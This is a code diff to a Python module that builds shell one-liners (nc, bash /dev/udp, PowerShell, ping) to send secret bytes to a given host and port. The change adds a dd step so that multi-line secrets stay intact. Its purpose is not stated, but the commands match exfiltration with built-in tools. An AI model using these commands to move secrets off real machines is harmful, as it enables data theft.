@@ -1,6 +1,7 @@
 """How a pass is sent with what every machine has: nc, bash, PowerShell, ping. Pure text.
 
-A pass is bytes, so each line spells them in the way that its shell knows.
+A pass is bytes, so each line spells them in the way that its shell knows. bash writes at every line end, which would
+cut a pass in two; `dd` puts it together again.
 """
 
 from collections.abc import Iterator
@@ -44,8 +45,9 @@ def pass_lines(secret: bytes, host: str, port: int, *, echo: bool) -> tuple[Pass
 
 def _lines(secret: bytes, host: str, port: int, *, echo: bool) -> Iterator[PassLine]:
     octal = "".join(f"\\{byte:03o}" for byte in secret)
-    yield PassLine("nc", f"printf '{octal}' | nc -u -w{NC_SECONDS} {host} {port}")
-    yield PassLine("bash", f"bash -c \"printf '{octal}' > /dev/udp/{host}/{port}\"")
+    whole = f" | dd obs={PASS_BYTES} 2>/dev/null" if b"\n" in secret else ""
+    yield PassLine("nc", f"printf '{octal}'{whole} | nc -u -w{NC_SECONDS} {host} {port}")
+    yield PassLine("bash", f"bash -c \"printf '{octal}'{whole} > /dev/udp/{host}/{port}\"")
     numbers = ",".join(f"0x{byte:02x}" for byte in secret)
     yield PassLine(
         "PowerShell",
